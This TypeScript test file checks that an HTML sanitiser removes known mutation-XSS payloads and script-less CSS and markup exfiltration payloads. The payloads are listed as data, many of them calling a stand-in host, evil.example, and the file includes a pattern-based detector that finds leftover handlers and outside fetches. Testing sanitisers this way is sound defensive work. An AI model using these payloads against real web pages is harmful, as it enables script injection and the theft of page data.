// The HTML sanitiser against a corpus of known mutation-XSS and script-less exfiltration
// payloads (issue 11 items 6 and 7). What comes out is parsed again the way a browser parses it:
// no script can run, no element or attribute outside the allow-list survives, nothing in it can
// fetch from outside, and sanitising again changes nothing (the output does not mutate).
import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { cleanInlineStyle, cleanStyleSheet, sanitizeDocumentHtml } from "./html-safety.ts";

const ALLOWED_ELEMENTS = new Set(
  `html head body title meta style article section header footer nav aside main h1 h2 h3 h4 h5 h6 p div blockquote
  pre hr ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td figure figcaption span a abbr b i em
  strong u s small sub sup mark code kbd samp var cite q dfn time data br wbr img ins del bdi bdo math mrow mi mn mo
  msup msub msubsup mfrac msqrt mroot mtext mspace`.split(/\s+/),
);

const MXSS = [
  `<math><style><img src=x onerror="alert(1)"></style></math>`,
  `<svg><p><style><img src=x onerror=alert(1)></style></p></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mi><table><mi><style><img src=x onerror=alert(1)>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!-- </style><img src=x onerror=alert(1)> -->`,
  `<style><img src=x onerror=alert(1)></style>`,
  `<style>a{color:red}</style ><img src=x onerror=alert(1)>`,
  `<style>p::after{content:"</style><img src=x onerror=alert(1)>"}</style>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<title></title><img src=x onerror=alert(1)>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a><a href=" javascript:alert(1)">y</a><a href="JaVaScRiPt:alert(1)">z</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">d</a>`,
  `<img src="x" alt="&quot; onerror=alert(1) x=">`,
  `<table><caption><svg><foreignObject><img src=x onerror=alert(1)>`,
  `<select><template><style><img src=x onerror=alert(1)></style></template></select>`,
  `<div id="a"><math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<details open ontoggle=alert(1)>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<math href="javascript:alert(1)">click</math>`,
];

const EXFILTRATION = [
  `<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/x.png)}</style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>@\\69mport url(https://evil.example/x.css);</style>`,
  `<style>body{background:u\\72l(https://evil.example/x.png)}</style>`,
  `<style>body{background:u\\000072l(https://evil.example/x.png)}</style>`,
  `<style>body{background:ur/**/l(https://evil.example/x.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>`,
  `<style>p{background-image:image-set("https://evil.example/a.png" 1x)}</style>`,
  `<style>p{background-image:-webkit-image-set(url(https://evil.example/a.png) 1x)}</style>`,
  `<style>li{list-style-image:url(https://evil.example/l.png)}</style>`,
  `<style>p{cursor:url(https://evil.example/c.cur),auto}</style>`,
  `<style>p{border-image:url(https://evil.example/b.png) 30 round}</style>`,
  `<style>input[value^=a]{background:url(https://evil.example/?a)}</style>`,
  `<style>@media all{p{background:url(https://evil.example/m.png)}}</style>`,
  `<style>@supports (display:grid){@import url(https://evil.example/s.css);}</style>`,
  `<style>p{mask:url(https://evil.example/m.svg)}</style>`,
  `<style>@namespace url(https://evil.example/ns);</style>`,
  `<div style="background:url(https://evil.example/x.png)">a</div>`,
  `<div style="background-image:url('https://evil.example/x.png')">a</div>`,
  `<div style="color:red;background:u\\72l(//evil.example/x)">a</div>`,
  `<img src="https://evil.example/t.png"><img src="//evil.example/t.png">`,
  `<img srcset="https://evil.example/s.png 1x"><img lowsrc="https://evil.example/l.png"><img dynsrc="https://evil.example/d">`,
  `<picture><source srcset="https://evil.example/p.png"><img src="data:image/png;base64,iVBORw0KGgo="></picture>`,
  `<link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/p">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/r">`,
  `<meta name="referrer" content="unsafe-url">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/f"><button>go</button></form>`,
  `<a href="https://example.org/" ping="https://evil.example/ping">p</a>`,
  `<table background="https://evil.example/t.png"><tr><td background="https://evil.example/td.png">x</td></tr></table>`,
  `<body background="https://evil.example/b.png">`,
  `<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>`,
  `<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><iframe src="https://evil.example/i"></iframe>`,
  `<svg><image href="https://evil.example/i.png"/></svg><svg><use href="https://evil.example/u.svg#x"/></svg>`,
  `<input type="image" src="https://evil.example/i.png">`,
  `<img src="data:image/png;base64,iVBORw0KGgo=" style="background:url(https://evil.example/x)">`,
  `<q cite="https://evil.example/c">q</q><blockquote cite="javascript:alert(1)">b</blockquote>`,
  `<img src='https://evil.example/?dangling=`,
  `<a href="https://example.org/" style="x:expression(alert(1))">e</a>`,
  `<math><mi xlink:href="https://evil.example/x">m</mi></math>`,
];

/** Every way the sanitised output could still run a script or fetch from outside, as found by a browser-like parse. */
function problemsOf(html: string): string[] {
  const { document } = new JSDOM(html).window;
  const problems: string[] = [];
  for (const el of document.querySelectorAll("*")) {
    const name = el.localName;
    if (!ALLOWED_ELEMENTS.has(name)) problems.push(`element <${name}>`);
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) problems.push(`handler ${name}[${attr.name}]`);
      if (/evil\.example|javascript:|expression\(/i.test(attr.value))
        problems.push(`${name}[${attr.name}]=${attr.value}`);
      if (["src", "srcset", "background", "poster", "data", "action", "ping", "lowsrc", "dynsrc"].includes(attr.name)) {
        if (!(name === "img" && attr.name === "src" && attr.value.startsWith("data:image/")))
          problems.push(`${name}[${attr.name}]`);
      }
      if (attr.name === "http-equiv") problems.push(`${name}[http-equiv]`);
      if (name === "meta" && attr.name === "name" && /referrer/i.test(attr.value)) problems.push("meta referrer");
    }
    if (name === "style" && /url|@import|@font-face|image-set|evil/i.test(el.textContent ?? ""))
      problems.push(`style: ${el.textContent}`);
  }
  return problems;
}

describe("sanitiser: known mutation-XSS payloads", () => {
  it.each(MXSS)("%s", (payload) => {
    const out = sanitizeDocumentHtml(`<!DOCTYPE html><html><body><p>before</p>${payload}<p>after</p></body></html>`);
    expect(problemsOf(out)).toEqual([]);
    // Sanitising the browser's reading of the output again finds nothing more to remove. (Not
    // always byte-identical: mis-nested headings are re-nested by the parser, harmlessly.)
    expect(problemsOf(sanitizeDocumentHtml(out))).toEqual([]);
    expect(out).toContain("before");
  });
});

describe("sanitiser: script-less exfiltration payloads", () => {
  it.each(EXFILTRATION)("%s", (payload) => {
    const out = sanitizeDocumentHtml(`<!DOCTYPE html><html><head></head><body><p>text</p>${payload}</body></html>`);
    expect(problemsOf(out)).toEqual([]);
    expect(sanitizeDocumentHtml(out)).toBe(out);
  });
});

describe("sanitiser: what a standard needs survives", () => {
  const standard = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="description" content="A standard">
    <title>D3039</title><style>@media print{h1{font-size:14pt}} table{border-collapse:collapse} .note::before{content:"Note \\2014 "}</style></head>
    <body><h1 id="s1" class="title">1. Scope</h1><p style="text-align: center; color: #333">Kept <b>bold</b> <i>it</i>
    <a href="#s1">anchor</a> <a href="https://example.org/x">out</a> <a href="mailto:a@example.org">mail</a></p>
    <table><thead><tr><th scope="col" colspan="2">h</th></tr></thead><tbody><tr><td rowspan="2">c</td></tr></tbody></table>
    <math display="block"><mrow><msup><mi>x</mi><mn>2</mn></msup><mo>+</mo><mfrac><mn>1</mn><mn>2</mn></mfrac></mrow></math>
    <img src="data:image/png;base64,iVBORw0KGgo=" alt="figure" width="10"><p data-clause="1.2" aria-label="clause">x</p></body></html>`;

  it("keeps structure, MathML, data images, safe links and harmless CSS", () => {
    const out = sanitizeDocumentHtml(standard);
    expect(out.startsWith("<!DOCTYPE html>\n<html")).toBe(true);
    expect(out).toContain('<html lang="en">');
    expect(out).toContain('<meta charset="utf-8">');
    expect(out).toContain('<meta name="description" content="A standard">');
    expect(out).toContain("<title>D3039</title>");
    expect(out).toContain("border-collapse:collapse");
    expect(out).toContain("@media print");
    expect(out).toContain('<h1 id="s1" class="title">1. Scope</h1>');
    expect(out).toContain('style="text-align: center; color: #333"');
    expect(out).toContain('<a href="#s1">anchor</a>');
    expect(out).toContain('<a href="https://example.org/x" rel="noopener noreferrer">out</a>');
    expect(out).toContain('href="mailto:a@example.org"');
    expect(out).toContain('<th scope="col" colspan="2">h</th>');
    expect(out).toContain("<msup><mi>x</mi><mn>2</mn></msup>");
    expect(out).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(out).toContain('data-clause="1.2"');
    expect(out).toContain('aria-label="clause"');
    expect(problemsOf(out)).toEqual([]);
  });

  it("a fragment becomes a whole document", () => {
    expect(sanitizeDocumentHtml("<p>only</p>")).toBe(
      "<!DOCTYPE html>\n<html><head></head><body><p>only</p></body></html>",
    );
  });
});

describe("CSS cleaning", () => {
  it("drops what fetches, keeps the rest", () => {
    expect(cleanStyleSheet("@import url(x.css); p{color:red;background:url(x.png)} @font-face{src:url(f)}")).toBe(
      "p{color:red}",
    );
    // A sheet the parser cannot read is dropped whole rather than guessed at.
    expect(cleanStyleSheet("p{color:red")).toBeNull();
    expect(cleanStyleSheet('p::after{content:"</style>"}')).toBe('p::after{content:"\\3c /style>"}');
  });

  it("inline styles: allowed properties with plain values only", () => {
    expect(cleanInlineStyle("color: red; position: fixed; background-color: url(x); font-weight: bold")).toBe(
      "color: red; font-weight: bold",
    );
    expect(cleanInlineStyle("width: calc(100% - u\\72l(x))")).toBe("");
  });
});
